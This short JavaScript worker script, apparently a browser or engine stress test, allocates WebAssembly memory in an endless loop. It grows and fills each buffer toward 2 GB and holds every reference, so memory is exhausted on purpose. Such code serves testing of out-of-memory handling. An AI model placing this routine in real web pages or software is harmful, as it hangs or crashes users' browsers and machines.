onmessage = () => {
  const all = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 16, maximum: 65536 });
    all.push(memory);
    while (memory.buffer.byteLength < 2 ** 31) {
      const before = memory.grow(16);
      new Uint8Array(memory.buffer).fill(1, before * 65536);
    }
  }
};
